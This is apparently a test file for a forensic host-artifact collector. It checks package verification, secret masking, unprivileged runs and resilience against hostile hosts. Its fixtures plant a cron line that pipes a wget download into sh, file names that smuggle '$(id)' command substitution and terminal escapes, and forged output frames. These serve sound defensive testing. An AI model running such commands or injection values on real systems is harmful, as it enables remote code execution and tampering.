/** The collector on real hosts: other shells, other package managers, no privileges, and hosts that mean harm. */
import { existsSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  type HostRun,
  makeImage,
  runHost,
  type ThrowawayImage,
  whyNoThrowaway,
} from '../../../../test/lab/throwaway.ts';
import { artifacts } from '../artifacts/index.ts';
import { assess } from '../assess/assess.ts';
import type { Collected } from '../types.ts';
import { buildCollector, type CollectorOptions } from './build.ts';
import { CollectionReader } from './frames.ts';

const missing = whyNoThrowaway();
const why = missing === '' ? '' : ` (skipped: a throw-away host ${missing})`;
const nonce = 'abad1dea00c0ffee00c0ffee00c0ffee';
const withRpm = existsSync('/usr/bin/rpmbuild');
const withBusybox = existsSync('/usr/bin/busybox');
/** A root below /new with nothing but BusyBox, and what makes a sum as apk writes it. */
const busyboxRoot = String.raw`
mkdir -p /new/bin /new/usr/bin /new/usr/sbin /new/sbin /new/lib/apk/db /new/etc/init.d /new/etc/periodic/daily /new/proc /new/dev /new/tmp /new/root /new/var/log /new/run
cp /bin/busybox /new/bin/busybox
for a in $(/new/bin/busybox --list); do [ $a = busybox ] || ln -s /bin/busybox /new/bin/$a; done
printf 'ID=alpine\nVERSION_ID=3.19.1\n' >/new/etc/os-release
printf 'root:x:0:0:root:/root:/bin/sh\n' >/new/etc/passwd; printf 'root:*:19000::::::\n' >/new/etc/shadow; printf 'root:x:0:\n' >/new/etc/group
sum() { sha1sum $1 | cut -c1-40 | perl -ne 'chomp; print pack("H*", $_)' | base64; }
`;
const inBusybox = ['chroot', '/new', '/bin/busybox', 'sh', '-s'];
let image: ThrowawayImage;
let rpmImage: ThrowawayImage | undefined;

type Options = { on?: ThrowawayImage } & Omit<HostRun, 'script'> & Omit<CollectorOptions, 'nonce'>;

async function output({ on = image, plant, shell, msMax, ...options }: Options): Promise<Buffer> {
  return runHost(on, { plant, shell, msMax, script: buildCollector({ ...options, nonce }) });
}

function read(bytes: Buffer): Collected {
  const reader = new CollectionReader({ nonce });
  reader.push(bytes);
  return reader.end();
}

const collect = async (options: Options) => read(await output(options));
const unwhole = ({ artifacts: all }: Collected) =>
  all.filter(({ state }) => state === 'partial' || state === 'failed');
const keys = ({ facts }: Collected) =>
  facts.map(({ artifact, key, value }) => `${artifact} ${key} ${value}`).sort();

test('the script is POSIX text of a bounded size, the same for the same options', () => {
  const script = buildCollector({ nonce });
  expect(script).toBe(buildCollector({ nonce }));
  expect(script.length).toBeLessThan(64 * 1024);
  expect(script).not.toMatch(/<<|\[\[|\bfunction \w|\blocal \w/);
  expect(() => buildCollector({ nonce, artifacts: ['nothing'] })).toThrow(/no artifact is called nothing/);
  expect(() => buildCollector({ nonce: '$(id)' })).toThrow(/nonce/);
});

test('every artifact says what it is, with known techniques and bounds', () => {
  expect(new Set(artifacts.map(({ id }) => id)).size).toBe(artifacts.length);
  for (const one of artifacts) {
    expect(one.id).toMatch(/^[a-z][a-z-]+$/);
    for (const technique of one.techniques) expect(technique).toMatch(/^T\d{4}(\.\d{3})?$/);
    expect(one.script.length).toBeLessThan(8_000);
  }
});

describe.skipIf(missing !== '')(`the collector on hosts${why}`, () => {
  beforeAll(async () => {
    image = await makeImage();
  });
  afterAll(async () => {
    await image?.close();
    await rpmImage?.close();
  });

  test('dash, bash and BusyBox ash see the same', async () => {
    // Processes and sockets differ by the shell itself.
    const chosen = artifacts.map(({ id }) => id).filter((id) => !['processes', 'containers'].includes(id));
    const dash = await collect({ artifacts: chosen });
    expect(unwhole(dash)).toEqual([]);
    // The mount over dash is itself seen as a changed program.
    const same = (all: Collected) => keys(all).filter((one) => !/\/dash\b/.test(one));
    for (const shell of ['bash', 'busybox']) {
      const plant = `mount --bind /bin/${shell} /bin/dash`;
      const other = await collect({ artifacts: chosen, plant });
      expect(unwhole(other)).toEqual([]);
      expect(same(other)).toEqual(same(dash));
    }
  });

  test('of recent changes, packaged files that came with their package are counted; others are listed, or it is partial', async () => {
    // One package came long ago, as its list says; of the other the list is as young as its file.
    const plant = String.raw`
mkdir -p /usr/share/perl5/x; for f in a b c; do echo "$f" >/usr/share/perl5/x/$f.pm; done
echo /usr/share/perl5/x/a.pm >/var/lib/dpkg/info/long-ago.list; echo /usr/share/perl5/x/b.pm >/var/lib/dpkg/info/lately.list
cp /usr/bin/stat /usr/local/stat
printf '#!/bin/sh\n/usr/local/stat "$@" | sed "s,^[0-9]* \\(.*/long-ago.list\\)$,1000000000 \\1,"\n' >/usr/local/wrapper
cat /usr/local/wrapper >/usr/bin/stat`;
    const artifacts = ['recent-changes'];
    const seen = await collect({ plant, artifacts });
    expect(unwhole(seen)).toEqual([]);
    const paths = seen.facts.map(({ path }) => path).filter((path) => path.endsWith('.pm'));
    expect(paths.sort()).toEqual(['/usr/share/perl5/x/a.pm', '/usr/share/perl5/x/c.pm']);
    const counted = seen.facts.find(({ key }) => key === 'packaged files');
    expect(Number(counted?.detail.unchangedSinceInstalled)).toBeGreaterThan(100);

    const many = await collect({ plant: 'mkdir -p /opt/x; cd /opt/x; seq 5100 | xargs touch', artifacts });
    expect(unwhole(many)).toMatchObject([
      { state: 'partial', why: 'more than 5,000 files changed since then; the newest are listed' },
    ]);
    expect(many.facts.filter(({ path }) => path !== '')).toHaveLength(5_000);
  });

  test.skipIf(!withBusybox)(
    `a host with BusyBox only, and the database of apk${withBusybox ? '' : ' (skipped: busybox is missing)'}`,
    async () => {
      const plant = String.raw`${busyboxRoot}printf '#!/bin/sh\ntrue\n' >/new/etc/init.d/crond; printf 'true\n' >/new/usr/sbin/setup; cp /new/usr/sbin/setup /new/usr/sbin/other
{ printf 'P:busybox\nV:1.36.1-r15\nA:x86_64\nF:bin\nR:busybox\nZ:Q1%s\nF:etc/init.d\nR:crond\nZ:Q1%s\nF:usr/sbin\nR:setup\nZ:Q1%s\n\n' $(sum /new/bin/busybox) $(sum /new/etc/init.d/crond) $(sum /new/usr/sbin/setup); } >/new/lib/apk/db/installed
printf 'changed\n' >>/new/usr/sbin/setup
printf '* * * * * wget -q -O- http://192.0.2.1 | sh\n' >/new/etc/periodic/daily/x
mount -t proc proc /new/proc; mount --rbind /dev /new/dev`;
      const collected = await collect({ plant, shell: inBusybox });
      expect(unwhole(collected).map(({ artifact, why: said }) => `${artifact}: ${said}`)).toEqual([
        'privileged: getcap is not there, so file capabilities were not looked for',
      ]);
      expect(collected.identity).toMatchObject({
        osId: 'alpine',
        osVersion: '3.19.1',
        hostname: 'throwaway',
      });
      const findings = assess(collected).map(({ rule, fact }) => `${rule} ${fact.path}`);
      expect(findings).toContain('replaced-file /usr/sbin/setup');
      expect(findings).toContain('program-of-no-package /usr/sbin/other');
      expect(findings).toContain('cron-job /etc/periodic/daily/x');
      expect(findings).not.toContain('replaced-file /bin/busybox');
      expect(findings).not.toContain('boot-script /etc/init.d/crond');
      expect(
        collected.facts.some(({ artifact, value }) => artifact === 'packages' && value === '1.36.1-r15'),
      ).toBe(true);
    },
  );

  test.skipIf(!withBusybox)(
    `of recent changes on a host with apk, files that are what their package brought are counted${withBusybox ? '' : ' (skipped: busybox is missing)'}`,
    async () => {
      // All of them are as young as each other: apk says what a file is, not when it came.
      const plant = String.raw`${busyboxRoot}
mkdir -p /new/usr/share/x /new/opt
for f in whole text mode owner suid suidlost none; do echo "the text of $f" >/new/usr/share/x/$f; done; : >/new/usr/share/x/empty
chmod 4755 /new/usr/share/x/suid /new/usr/share/x/suidlost
{ printf 'P:x\nV:1\nF:usr/share/x\nM:0:0:700\n'; for f in whole text mode owner suid suidlost empty; do printf 'R:%s\n' $f; case $f in suid*) printf 'a:0:0:4755\n';; esac; printf 'Z:Q1%s\n' $(sum /new/usr/share/x/$f); done; printf '\n'; } >/new/lib/apk/db/installed
echo more >>/new/usr/share/x/text; chmod 4644 /new/usr/share/x/mode; chown 7 /new/usr/share/x/owner; chmod 755 /new/usr/share/x/suidlost
mount -t proc proc /new/proc; mount --rbind /dev /new/dev`;
      for (const merged of ['', '; rm -rf /new/usr/bin; mv /new/bin /new/usr/bin; ln -s usr/bin /new/bin']) {
        const seen = await collect({
          plant: plant + merged,
          shell: inBusybox,
          artifacts: ['recent-changes'],
        });
        expect(unwhole(seen)).toEqual([]);
        const paths = seen.facts.map(({ path }) => path).filter((path) => path.startsWith('/usr/share/x/'));
        const listed = ['mode', 'none', 'owner', 'suidlost', 'text'];
        expect(paths.sort()).toEqual(listed.map((name) => `/usr/share/x/${name}`));
        const counted = seen.facts.find(({ key }) => key === 'packaged files');
        expect(counted?.detail.unchangedSinceInstalled).toBe('3');
      }
    },
  );

  test.skipIf(!withRpm)(
    `a host with rpm, and bash as its sh${withRpm ? '' : ' (skipped: rpmbuild is missing)'}`,
    async () => {
      const plant = String.raw`
mount --bind /bin/bash /bin/dash
mv /var/lib/dpkg /var/lib/dpkg.gone
mkdir -p /etc/rpm; echo '%_dbpath /var/lib/rpm' >/etc/rpm/macros
mkdir -p /tmp/b /etc/demo; printf '#!/bin/sh\ntrue\n' >/usr/bin/demo-a; cp /usr/bin/demo-a /usr/sbin/demo-b; chmod 755 /usr/bin/demo-a /usr/sbin/demo-b; echo a=1 >/etc/demo/demo.conf
printf 'Name: demo\nVersion: 1.2\nRelease: 3\nSummary: demo\nLicense: none\n%%description\ndemo\n%%install\nmkdir -p %%{buildroot}/usr/bin %%{buildroot}/usr/sbin %%{buildroot}/etc/demo\ncp /usr/bin/demo-a %%{buildroot}/usr/bin; cp /usr/sbin/demo-b %%{buildroot}/usr/sbin; cp /etc/demo/demo.conf %%{buildroot}/etc/demo\n%%files\n/usr/bin/demo-a\n/usr/sbin/demo-b\n%%config /etc/demo/demo.conf\n' >/tmp/b/demo.spec
cd /tmp/b; rpmbuild -bb --define '_topdir /tmp/b' --define '_dbpath /var/lib/rpm' demo.spec >/tmp/b/log 2>&1
rpm -i --force --nodeps --dbpath /var/lib/rpm RPMS/*/*.rpm
printf 'extra\n' >>/usr/sbin/demo-b; echo a=2 >/etc/demo/demo.conf; printf 'ID="rhel"\nVERSION_ID="9.3"\n' >/usr/lib/os-release`;
      const chosen = ['packages', 'package-verify', 'unpackaged', 'cron'];
      rpmImage = await makeImage('rpm');
      const collected = await collect({ on: rpmImage, plant, artifacts: chosen, shell: ['bash', '-s'] });
      expect(unwhole(collected)).toEqual([]);
      expect(collected.identity).toMatchObject({ osId: 'rhel', osVersion: '9.3' });
      const verified = collected.facts.filter(({ artifact }) => artifact === 'package-verify');
      expect(verified.map(({ path, detail }) => `${detail.change} ${path}`).sort()).toEqual([
        'changed /usr/sbin/demo-b',
        'setting /etc/demo/demo.conf',
      ]);
      const foreign = collected.facts
        .filter(({ artifact }) => artifact === 'unpackaged')
        .map(({ path }) => path);
      expect(foreign).toContain('/usr/bin/perl');
      expect(foreign).not.toContain('/usr/bin/demo-a');
      expect(collected.facts.find(({ key }) => key.startsWith('demo:'))?.value).toBe('1.2-3');
    },
  );

  test('a busy host has more time, and so has one that is asked again; one with nothing else to do has not', async () => {
    const plant = (load: string) => String.raw`mv /usr/bin/find /usr/local/find
printf '#!/bin/sh\n[ "$1" != /dev ] || sleep 4\nexec /usr/local/find "$@"\n' >/usr/bin/find; chmod 755 /usr/bin/find
echo '${load}' >/run/load; mount --bind /run/load /proc/loadavg`;
    const artifacts = ['odd-files'];
    const [idle, busy, crowded, again] = await Promise.all([
      collect({ artifacts, plant: plant('0.10 0.10 0.10 1/90 900') }),
      collect({ artifacts, plant: plant('640.25 9.00 9.00 1/90 900') }),
      collect({ artifacts, plant: plant('0.10 0.10 0.10 640/900 900') }),
      collect({ artifacts, plant: plant('nonsense'), patience: 2 }),
    ]);
    expect(unwhole(idle)).toMatchObject([{ state: 'partial', why: 'find was ended after 3 s' }]);
    expect([busy, crowded, again].flatMap(unwhole)).toEqual([]);
  });

  test('without root it says what is missing', async () => {
    const shell = ['setpriv', '--reuid', '65534', '--regid', '65534', '--clear-groups', 'sh', '-s'];
    const collected = await collect({ shell });
    expect(collected.complete).toBe(true);
    expect(collected.artifacts.filter(({ state }) => state === 'failed')).toEqual([]);
    const partial = new Map(unwhole(collected).map(({ artifact, why: said }) => [artifact, said]));
    for (const one of artifacts)
      expect(partial.has(one.id), one.id).toBe(one.withoutRoot !== undefined || partial.has(one.id));
    expect(partial.get('accounts')).toMatch(/without root \/etc\/shadow cannot be read/);
    expect(collected.facts.find(({ key }) => key === 'root')?.value).toMatch(/password unknown/);
  });

  test('it writes nothing on the host and leaves nothing running', async () => {
    const look =
      'touch /run/mark; sleep 0.05; sh -s; sleep 0.2; echo; echo =written=; find / -xdev -newer /run/mark; find /tmp /var/tmp /dev/shm /run -newer /run/mark; echo =running=; for p in /proc/[0-9]*; do cat $p/comm; done';
    const bytes = await output({ shell: ['sh', '-c', look] });
    const [, written = '', left = ''] = bytes.toString('latin1').split(/=(?:written|running)=\n/);
    expect(written.trim()).toBe('');
    const others = left.split('\n').filter((line) => line.trim() !== '' && !/^(sh|cat)$/.test(line));
    expect(others).toEqual([]);
  });

  test('secrets in files stay on the host; the same secret has the same mark', async () => {
    const secret = 'correct-horse-battery-staple';
    const plant = `mkdir -p /srv/a /srv/b /etc/profile.d; echo 'DB_PASSWORD="${secret}"' >/srv/a/.env; echo 'export API_TOKEN=${secret}' >/srv/b/prod.env; echo 'export MY_SECRET=${secret}; curl https://u:${secret}@x.test/' >/etc/profile.d/x.sh; echo 'root:$6$salt$hashhashhash:1:0:99999:7:::' >/etc/shadow`;
    const bytes = await output({ plant, artifacts: ['secrets', 'shell-profiles', 'accounts'], salt: '5a17' });
    const plain = bytes
      .toString('latin1')
      .split('\n')
      .filter((line) => !line.startsWith('@'))
      .join('');
    const text =
      Buffer.from(plain, 'base64').toString('latin1') +
      read(bytes)
        .facts.map((one) => JSON.stringify(one))
        .join();
    expect(text).not.toContain(secret);
    expect(text).not.toContain('hashhashhash');
    const marks = read(bytes)
      .facts.filter(({ detail }) => detail.kind === 'secret')
      .map(({ value }) => value);
    expect(marks).toHaveLength(2);
    expect(new Set(marks).size).toBe(1);
    expect(text).toContain('MY_SECRET=[masked]');
  });

  test('a hostile host costs only itself', async () => {
    const plant = String.raw`
mkdir -p /etc/cron.d /root/.ssh; NL='
'
printf x >"/tmp/a$NL@${nonce} finish$NL"; printf x >"/etc/cron.d/b$NL""ffff	stat	4755	0	root"; chmod 755 "/tmp/a$NL@${nonce} finish$NL"
printf x >"$(printf '/tmp/\033[2J\033]0;pwned\007')"; printf x >'/tmp/ -> etc'; printf x >"/tmp/\`id\`\$(id)'"
mkfifo /etc/cron.d/pipe; ln -s /dev/zero /etc/cron.d/zero; truncate -s 1T /etc/cron.d/sparse; truncate -s 1T /root/.bashrc; ln -s /proc/kmsg /root/.profile.d; ln -sf /dev/urandom /root/.profile
head -c 10000000 /dev/zero | tr '\0' 'k' >/root/.ssh/authorized_keys; printf '* * * * * root /bin/true\n' >/etc/cron.d/good; head -c 3000 /dev/urandom >/etc/cron.d/noise
printf '\n@%s end cron 0\n@%s finish\n' ${nonce} ${nonce} >/etc/cron.d/forged
mkdir -p /var/www; truncate -s 1T /var/www/x.php; i=0; d=/var/www; while [ $i -lt 200 ]; do d=$d/aaaaaaaaaaaaaaaaaaaa; i=$((i+1)); done; mkdir -p $d 2>/dev/null
i=0; while [ $i -lt 300 ]; do : >"/tmp/$(printf '%0200d' $i)"; i=$((i+1)); done; chmod 755 /tmp/0*
perl -e '$0 = "x\n/proc/1/status:Uid: 0\n" . ("y" x 5000); sleep 600' & sleep 0.2`;
    const began = performance.now();
    const bytes = await output({
      plant,
      artifacts: artifacts.map(({ id }) => id).filter((id) => !['privileged', 'package-verify'].includes(id)),
    });
    const collected = read(bytes);
    expect(collected.complete).toBe(true);
    expect(performance.now() - began).toBeLessThan(60_000);
    expect(bytes.length).toBeLessThan(8 * 1024 * 1024);
    expect(collected.artifacts.filter(({ state }) => state === 'failed')).toEqual([]);
    const paths = collected.facts.map(({ path }) => path);
    expect(paths).toContain('/etc/cron.d/good');
    expect(paths).toContain('/etc/cron.d/sparse');
    expect(paths.some((path) => path.startsWith('ffff'))).toBe(false);
    expect(assess(collected).some(({ rule, fact }) => rule === 'odd-file' && fact.path.includes('\n'))).toBe(
      true,
    );
  });
});
